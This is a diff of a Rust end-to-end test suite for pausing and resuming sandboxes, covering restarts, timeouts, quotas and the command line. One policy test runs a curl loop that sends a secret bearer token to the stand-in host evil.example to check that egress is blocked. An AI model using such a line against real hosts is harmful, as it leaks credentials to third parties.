@@ -1,118 +1,405 @@
-//! Sandboxes that stand still: with their memory, through restarts of the server, and gone when somebody wants them gone.
+//! Paused sandboxes: nothing is lost, no time elapses, requests resume them, and they can be stopped.
+//!
+//! | module | holds |
+//! |---|---|
+//! | [`e2b`] | pauses and resumes through the E2B API |
 
-use std::time::Duration;
+mod e2b;
 
-use api::sandbox::{CreateSandbox, SandboxState};
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use api::account::{Quota, Role};
+use api::exec::{ExecSpec, Outcome};
+use api::files::FilePath;
+use api::limits::Limits;
+use api::policy::Policy;
+use api::sandbox::{CreateSandbox, EndReason, Lease, OnTimeout, Sandbox, SandboxState};
+use api::secret::PutSecret;
 use api::{ErrorCode, SandboxId};
-use client::Client;
-use e2e::lab::script;
+use client::{Client, Event};
+use e2e::lab::{promised, script};
 use e2e::service::{Service, served, small, tiers, until};
-use serde_json::{Value, json};
+use e2e::world::in_a_world;
+
+use crate::ports::ground::{Application, asked, exchange, on_each_tier};
 
 const WAIT: Duration = Duration::from_secs(20);
-/// Counts as fast as it can look at the clock, so that a second in which it stood still is seen.
+/// Counts in memory and shows the count in a file.
 const COUNTER: &str = "i=0; while :; do i=$((i+1)); echo $i > /workspace/count.new; mv /workspace/count.new /workspace/count; sleep 0.01; done";
 
-async fn asked(service: &Service, id: &SandboxId, what: &str, body: Value) -> u16 {
-    let path = match what {
-        "connect" => format!("/v2/sandboxes/{id}/connect"),
-        what => format!("/sandboxes/{id}/{what}"),
-    };
-    service.wire().ask("POST", &path, Some(&body)).await.status
+pub(crate) async fn read_count(client: &Client, id: &SandboxId) -> u64 {
+    let done = client.exec(id, &script("cat /workspace/count")).await.unwrap().collect().await.unwrap();
+    String::from_utf8_lossy(&done.stdout).trim().parse().unwrap_or(0)
 }
 
-async fn counted(client: &Client, id: &SandboxId) -> u64 {
-    let done = client.exec(id, &script("cat /workspace/count")).await.unwrap().collect().await.unwrap();
-    String::from_utf8_lossy(&done.stdout).trim().parse().unwrap()
+pub(crate) async fn start_counter(client: &Client, id: &SandboxId) -> api::exec::ExecInfo {
+    let exec = client.start(id, &script(COUNTER)).await.unwrap();
+    until(WAIT, "the first count", async || read_count(client, id).await > 0).await;
+    exec
+}
+
+pub(crate) async fn state(client: &Client, id: &SandboxId) -> SandboxState {
+    client.sandbox(id).await.unwrap().state
+}
+
+pub(crate) async fn until_paused(client: &Client, id: &SandboxId) {
+    until(WAIT, "the pause", async || state(client, id).await == SandboxState::Paused).await;
 }
 
 /// Processor time of all processes of a sandbox, as the machine counts it.
-async fn used(client: &Client, id: &SandboxId) -> u64 {
+pub(crate) async fn used(client: &Client, id: &SandboxId) -> u64 {
     client.usage(id).await.unwrap().cpu_us
 }
 
-/// Concurrent and repeated pauses and resumes, during an exec and across a server restart, lose no progress.
+/// A server whose configuration contains these lines.
+fn configured(text: &str) -> (tempfile::TempDir, PathBuf, Service) {
+    let place = tempfile::tempdir().unwrap();
+    let path = place.path().join("bellglass.toml");
+    std::fs::write(&path, text).unwrap();
+    let service = Service::with(&[], &["--config", path.to_str().unwrap()]);
+    (place, path, service)
+}
+
+/// Concurrent and repeated pauses and resumes, during an exec and across killed servers, lose no progress.
 #[test]
-fn what_stands_still_goes_on_where_it_was() {
+fn a_paused_sandbox_continues_where_it_was() {
     served(async || {
         let mut service = Service::start();
         for tier in tiers() {
             let client = service.client();
             let id = client.create(&CreateSandbox { tier, ..small() }).await.unwrap().id;
-            let exec = client.start(&id, &script(COUNTER)).await.unwrap();
-            until(WAIT, "it counts", async || {
-                client
-                    .exec(&id, &script("test -s /workspace/count"))
-                    .await
-                    .unwrap()
-                    .collect()
-                    .await
-                    .unwrap()
-                    .end
-                    .outcome
-                    == api::exec::Outcome::Exited { code: 0 }
-            })
-            .await;
-            let both = tokio::join!(
-                asked(&service, &id, "pause", json!({})),
-                asked(&service, &id, "pause", json!({}))
+            let exec = start_counter(&client, &id).await;
+            let (one, other) = tokio::join!(client.pause(&id), client.pause(&id));
+            assert_eq!(
+                (one.unwrap().state, other.unwrap().state),
+                (SandboxState::Paused, SandboxState::Paused)
             );
-            assert!(both == (204, 409) || both == (409, 204), "{both:?}");
-            assert!(client.sandbox(&id).await.unwrap().paused);
-            let refused = client.exec(&id, &script("true")).await.err().unwrap();
-            assert_eq!(refused.code(), Some(ErrorCode::Conflict), "{refused}");
-            // The next server finds it as it was, and it still stands.
             service.kill();
             service.begin();
             let client = service.client();
-            let shown = client.sandbox(&id).await.unwrap();
-            assert_eq!((shown.state, shown.paused), (SandboxState::Running, true));
+            assert_eq!(state(&client, &id).await, SandboxState::Paused);
             let before = used(&client, &id).await;
             tokio::time::sleep(Duration::from_secs(1)).await;
             let after = used(&client, &id).await;
-            assert!(after - before < 50_000, "{} µs of processor time while it stands", after - before);
-            let both = tokio::join!(
-                asked(&service, &id, "connect", json!({ "timeout": 60 })),
-                asked(&service, &id, "connect", json!({ "timeout": 60 }))
+            assert!(after - before < 50_000, "{} µs of processor time while paused", after - before);
+            let (one, other) = tokio::join!(client.resume(&id), client.resume(&id));
+            assert_eq!(
+                (one.unwrap().state, other.unwrap().state),
+                (SandboxState::Running, SandboxState::Running)
             );
-            assert!(both == (201, 200) || both == (200, 201), "{both:?}");
-            let first = counted(&client, &id).await;
-            until(WAIT, "it counts on", async || counted(&client, &id).await > first).await;
-            assert!(
-                client.execs(&id).await.unwrap().iter().any(|one| one.id == exec.id && one.outcome.is_none())
-            );
-            for _ in 0..20 {
-                assert_eq!(asked(&service, &id, "pause", json!({})).await, 204);
-                assert_eq!(asked(&service, &id, "connect", json!({ "timeout": 60 })).await, 201);
+            let first = read_count(&client, &id).await;
+            until(WAIT, "a higher count", async || read_count(&client, &id).await > first).await;
+            let execs = client.execs(&id).await.unwrap();
+            assert!(execs.iter().any(|one| one.id == exec.id && one.outcome.is_none()));
+            let mut last = read_count(&client, &id).await;
+            for round in 0..20 {
+                client.pause(&id).await.unwrap();
+                // Every second time a request that needs the sandbox resumes it.
+                if round % 2 == 0 {
+                    client.resume(&id).await.unwrap();
+                }
+                let now = read_count(&client, &id).await;
+                assert!(now >= last, "{now} after {last}");
+                last = now;
             }
-            let last = counted(&client, &id).await;
-            assert!(last > first, "{last} after {first}");
-            // It is ended as it stands.
-            assert_eq!(asked(&service, &id, "pause", json!({})).await, 204);
+            client.pause(&id).await.unwrap();
+            let since = Instant::now();
             client.stop(&id).await.unwrap();
-            println!("{tier:?}: stood still 22 times, counted to {last}");
+            assert!(
+                since.elapsed() < promised(5),
+                "a paused sandbox was stopped after {:?}",
+                since.elapsed()
+            );
+            println!("{tier:?}: paused 22 times, counted to {last}");
         }
         service.assert_nothing_left().await;
     });
 }
 
-/// Its time goes on only when it does.
+/// A server that is killed at any moment of a pause or a resume finds the sandbox paused or running, and it continues.
 #[test]
-fn one_that_stands_still_outlives_its_time_and_has_the_one_it_is_given() {
+fn a_server_killed_during_a_pause_or_a_resume_loses_nothing() {
+    served(async || {
+        let mut service = Service::start();
+        let id = service.client().create(&small()).await.unwrap().id;
+        start_counter(&service.client(), &id).await;
+        let (mut last, mut states) = (0, [0, 0]);
+        for round in 0..e2e::lab::sized(60_u64, 12) {
+            let client = service.client();
+            let count = read_count(&client, &id).await;
+            assert!(count >= last, "round {round}: {count} after {last}");
+            last = count;
+            if round % 2 == 1 {
+                client.pause(&id).await.unwrap();
+            }
+            let (asking, of) = (client.clone(), id.clone());
+            let asked = tokio::spawn(async move {
+                match round % 2 {
+                    0 => asking.pause(&of).await.map(drop),
+                    _ => asking.resume(&of).await.map(drop),
+                }
+            });
+            tokio::time::sleep(Duration::from_micros(round * 700 % 9_000)).await;
+            service.kill();
+            asked.abort();
+            service.begin();
+            match state(&service.client(), &id).await {
+                SandboxState::Running => states[0] += 1,
+                SandboxState::Paused => states[1] += 1,
+                other => panic!("round {round}: {other:?}"),
+            }
+        }
+        println!("found running {} times and paused {} times, counted to {last}", states[0], states[1]);
+        service.client().stop(&id).await.unwrap();
+        service.assert_nothing_left().await;
+    });
+}
+
+/// The idle timeout, the time to live and exec deadlines do not elapse during a pause, and a resume restarts the first two.
+#[test]
+fn no_time_elapses_while_paused() {
+    served(async || {
+        let service = Service::start();
+        let client = service.client();
+        for tier in tiers() {
+            let limits = Limits { ttl_ms: 4_000, ..Limits::default() };
+            let request = CreateSandbox { tier, idle_ms: 4_000, limits: limits.into(), ..small() };
+            let id = client.create(&request).await.unwrap().id;
+            let spec = ExecSpec { deadline_ms: Some(3_000), ..script("sleep 60") };
+            let exec = client.start(&id, &spec).await.unwrap();
+            client.pause(&id).await.unwrap();
+            tokio::time::sleep(Duration::from_secs(6)).await;
+            assert_eq!(state(&client, &id).await, SandboxState::Paused);
+            client.resume(&id).await.unwrap();
+            let resumed = Instant::now();
+            tokio::time::sleep(Duration::from_secs(1)).await;
+            let seen = client.execs(&id).await.unwrap().into_iter().find(|one| one.id == exec.id).unwrap();
+            assert!(seen.outcome.is_none(), "the deadline elapsed during the pause: {seen:?}");
+            assert!(seen.duration_ms < 3_000, "the pause counts as time of the exec: {seen:?}");
+            let end = client.reader(&id, &exec.id).collect().await.unwrap().end;
+            assert_eq!(end.outcome, Outcome::Timeout);
+            until(WAIT, "the end", async || state(&client, &id).await.is_terminal()).await;
+            assert_eq!(client.sandbox(&id).await.unwrap().reason, Some(EndReason::Expired));
+            let lived = resumed.elapsed();
+            assert!(lived > Duration::from_millis(3_800), "{tier:?} lived {lived:?} after the resume");
+        }
+        service.assert_nothing_left().await;
+    });
+}
+
+/// `on_timeout = pause`: both timeouts pause the sandbox, and a request resumes it with what it had in memory.
+#[test]
+fn a_timeout_pauses_a_sandbox_that_wants_that() {
+    served(async || {
+        let service = Service::start();
+        let client = service.client();
+        for tier in tiers() {
+            let short = Limits { ttl_ms: 3_000, ..Limits::default() };
+            let (long, idle) = (Limits::default(), 2_000);
+            for (what, idle_ms, limits) in [("time to live", 60_000, short), ("idle timeout", idle, long)] {
+                let request = CreateSandbox {
+                    tier,
+                    idle_ms,
+                    limits: limits.into(),
+                    on_timeout: OnTimeout::Pause,
+                    ..small()
+                };
+                let id = client.create(&request).await.unwrap().id;
+                let counting = match what {
+                    "time to live" => client.start(&id, &script(COUNTER)).await.map(drop),
+                    // A running exec keeps a sandbox from being idle; a process that it left behind does not.
+                    _ => client
+                        .exec(&id, &script(&format!("({COUNTER}) > /dev/null 2>&1 &")))
+                        .await
+                        .unwrap()
+                        .collect()
+                        .await
+                        .map(drop),
+                };
+                counting.unwrap();
+                until_paused(&client, &id).await;
+                let shown = client.sandbox(&id).await.unwrap();
+                assert_eq!((shown.on_timeout, shown.reason), (OnTimeout::Pause, None), "{what}");
+                let count = read_count(&client, &id).await;
+                assert!(count > 0, "{what}: nothing was counted");
+                assert_eq!(state(&client, &id).await, SandboxState::Running);
+                until_paused(&client, &id).await;
+                assert!(read_count(&client, &id).await > count, "{what}");
+                client.stop(&id).await.unwrap();
+            }
+        }
+        // Control: without the option it ends.
+        let limits = Limits { ttl_ms: 2_000, ..Limits::default() };
+        let id = client.create(&CreateSandbox { limits: limits.into(), ..small() }).await.unwrap().id;
+        until(WAIT, "the end", async || state(&client, &id).await == SandboxState::Ended).await;
+        service.assert_nothing_left().await;
+    });
+}
+
+/// The output of a paused sandbox is silent and continues after the pause, without a gap, for a reader that stays.
+#[test]
+fn a_reader_waits_through_a_pause() {
     served(async || {
         let service = Service::start();
         let client = service.client();
         let id = client.create(&small()).await.unwrap().id;
-        assert_eq!(asked(&service, &id, "timeout", json!({ "timeout": 3 })).await, 204);
-        assert_eq!(asked(&service, &id, "pause", json!({})).await, 204);
-        tokio::time::sleep(Duration::from_secs(5)).await;
-        assert!(client.sandbox(&id).await.unwrap().paused);
-        assert_eq!(asked(&service, &id, "connect", json!({ "timeout": 3 })).await, 201);
-        assert_eq!(client.sandbox(&id).await.unwrap().state, SandboxState::Running);
-        until(WAIT, "its time is over", async || {
-            client.sandbox(&id).await.unwrap().reason == Some(api::sandbox::EndReason::Expired)
-        })
-        .await;
+        let lines = "i=0; while [ $i -lt 300 ]; do i=$((i+1)); echo $i; sleep 0.01; done";
+        let mut exec = client.exec(&id, &script(lines)).await.unwrap();
+        assert!(matches!(exec.next().await.unwrap(), Some(Event::Data { .. })));
+        client.pause(&id).await.unwrap();
+        // Longer than a connection to a guest that does not answer lasts.
+        let reading = tokio::spawn(exec.collect());
+        tokio::time::sleep(Duration::from_secs(35)).await;
+        assert!(!reading.is_finished(), "the reader ended during the pause");
+        client.resume(&id).await.unwrap();
+        let collected = tokio::time::timeout(WAIT, reading).await.unwrap().unwrap().unwrap();
+        let text = String::from_utf8(collected.stdout).unwrap();
+        let numbers: Vec<u64> = text.lines().map(|line| line.parse().unwrap()).collect();
+        assert!(
+            numbers.windows(2).all(|pair| pair[0] + 1 == pair[1]) && numbers.last() == Some(&300),
+            "{text}"
+        );
+        assert_eq!(collected.end.outcome, Outcome::Exited { code: 0 });
+    });
+}
+
+/// Files, ports, leases, policies and new execs resume a paused sandbox; requests that only look at it do not.
+#[test]
+fn requests_resume_a_paused_sandbox() {
+    on_each_tier(async |service, tier| {
+        let application = Application::start(service, tier).await;
+        let (client, id) = (&application.client, &application.sandbox.id);
+        let paused = async || client.pause(id).await.unwrap();
+        paused().await;
+        client.usage(id).await.unwrap();
+        client.sandboxes(false).await.unwrap();
+        assert_eq!(asked(&application.port.url, &[]).0, 401);
+        assert_eq!(state(client, id).await, SandboxState::Paused, "a request without the token resumed it");
+        application.held();
+        assert_eq!(state(client, id).await, SandboxState::Running);
+        paused().await;
+        client.renew(id, Lease { idle_ms: 300_000 }).await.unwrap();
+        assert_eq!(state(client, id).await, SandboxState::Running);
+        paused().await;
+        client.set_policy(id, &Policy::default()).await.unwrap();
+        assert_eq!(state(client, id).await, SandboxState::Running);
+        paused().await;
+        let workspace = FilePath::new(b"/workspace").unwrap();
+        assert!(client.files(id).list(&workspace, 1).await.is_ok());
+        assert_eq!(state(client, id).await, SandboxState::Running);
+        // An open connection is silent during a pause, and continues.
+        let mut socket = application.websocket();
+        assert_eq!(exchange(&mut socket, "before"), "before");
+        paused().await;
+        client.resume(id).await.unwrap();
+        assert_eq!(exchange(&mut socket, "after"), "after");
+        paused().await;
+        client.stop(id).await.unwrap();
         service.assert_nothing_left().await;
+    });
+}
+
+/// A policy and a secret hold after a pause, for a program that was running.
+#[test]
+fn a_policy_and_a_secret_outlive_a_pause() {
+    in_a_world(async |world| {
+        let service = world.service();
+        let client = service.client();
+        client.put_secret("API_KEY", &PutSecret { value: "canary-of-the-pause".into() }).await.unwrap();
+        let words = ["good.example", "secret:API_KEY=good.example/v1"];
+        for tier in tiers() {
+            let policy = Some(Policy::of_words(&words).unwrap());
+            let id = client.create(&CreateSandbox { tier, policy, ..small() }).await.unwrap().id;
+            let ask =
+                "curl -sk -o /dev/null -w %{http_code} -H \"authorization: Bearer $API_KEY\" --max-time 10";
+            let asking = script(&format!(
+                "while :; do {ask} https://good.example/v1/a > /workspace/good; {ask} http://evil.example/ > /workspace/evil; sleep 0.1; done"
+            ));
+            client.start(&id, &asking).await.unwrap();
+            let said = async || {
+                let text =
+                    "cat /workspace/good; echo; cat /workspace/evil; rm -f /workspace/good /workspace/evil";
+                let done = client.exec(&id, &script(text)).await.unwrap().collect().await.unwrap();
+                String::from_utf8_lossy(&done.stdout).into_owned()
+            };
+            for round in 0..3 {
+                let since = Instant::now();
+                loop {
+                    let said = said().await;
+                    let (good, evil) = said.split_once('\n').unwrap_or_default();
+                    assert_ne!(evil.trim(), "200", "round {round}: {said}");
+                    if good.trim() == "200" {
+                        break;
+                    }
+                    assert!(since.elapsed() < WAIT, "round {round}: no answer of the allowed host: {said}");
+                    tokio::time::sleep(Duration::from_millis(70)).await;
+                }
+                client.pause(&id).await.unwrap();
+                if round == 1 {
+                    tokio::time::sleep(Duration::from_secs(20)).await;
+                }
+                client.resume(&id).await.unwrap();
+            }
+            let seen = world.seen().to_string();
+            assert!(seen.contains("canary-of-the-pause"), "{seen}");
+            client.pause(&id).await.unwrap();
+            client.stop(&id).await.unwrap();
+        }
+        service.assert_nothing_left().await;
+    });
+}
+
+/// A paused sandbox ends after `paused_max_ms`, also across a restart, and counts toward the quota until then.
+#[test]
+fn a_paused_sandbox_ends_after_the_longest_pause_and_counts_until_then() {
+    served(async || {
+        let (_place, _path, mut service) = configured("paused_max_ms = 6000\npool_ready = 0\n");
+        let quota = Quota { sandboxes: 2, ..Quota::default() };
+        let key = service.key_of("small", Role::Write, quota).await;
+        let client = Client::new(&service.url(), &key).unwrap();
+        let mut paused = Vec::new();
+        for _ in 0..2 {
+            let id = client.create(&small()).await.unwrap().id;
+            client.pause(&id).await.unwrap();
+            paused.push(id);
+        }
+        let refused = client.create(&small()).await.unwrap_err();
+        assert_eq!(refused.code(), Some(ErrorCode::QuotaExceeded), "{refused}");
+        service.kill();
+        service.begin();
+        let client = Client::new(&service.url(), &key).unwrap();
+        for id in &paused {
+            let ended = async || -> Sandbox { client.sandbox(id).await.unwrap() };
+            until(WAIT, "the end", async || ended().await.state.is_terminal()).await;
+            assert_eq!(ended().await.reason, Some(EndReason::Expired));
+            let refused = client.resume(id).await.unwrap_err();
+            assert_eq!(refused.code(), Some(ErrorCode::SandboxLost), "{refused}");
+        }
+        client.create(&small()).await.unwrap();
+    });
+}
+
+/// `bellglass pause`, `resume` and `create --on-timeout`, as a person uses them.
+#[test]
+fn the_command_line_pauses_and_resumes() {
+    served(async || {
+        let service = Service::start();
+        let said = |arguments: &[&str]| {
+            let output = service.command(arguments).output().unwrap();
+            let (out, err) =
+                (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+            (output.status.success(), out.trim().to_owned(), err.trim().to_owned())
+        };
+        let (ok, id, err) = said(&["create", "--name", "build", "--on-timeout", "pause", "--idle", "2s"]);
+        assert!(ok, "{err}");
+        assert_eq!(said(&["pause", "build"]), (true, String::new(), format!("bellglass: {id} is paused")));
+        assert!(said(&["list"]).1.contains("paused"), "{:?}", said(&["list"]));
+        assert_eq!(said(&["resume", "build"]), (true, String::new(), format!("bellglass: {id} is running")));
+        until_paused(&service.client(), &id.parse().unwrap()).await;
+        assert_eq!(said(&["exec", "build", "--", "echo", "again"]).1, "again");
+        assert!(said(&["stop", "build"]).0);
+        let (ok, _, err) = said(&["pause", "build"]);
+        assert!(!ok && err.contains("build"), "{err}");
     });
 }
